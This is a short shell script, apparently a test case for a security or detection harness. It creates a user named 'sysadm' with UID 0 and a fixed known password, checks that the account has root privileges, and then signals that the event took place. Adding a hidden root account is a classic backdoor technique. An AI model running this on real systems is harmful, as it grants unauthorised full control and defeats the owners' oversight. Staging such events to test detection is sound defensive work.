#!/bin/sh
. /opt/case/case.sh

echo 'sysadm:Bait-2026:0:0::/root:/bin/bash' | newusers /dev/stdin
test "$(id -u sysadm)" = 0
took_place
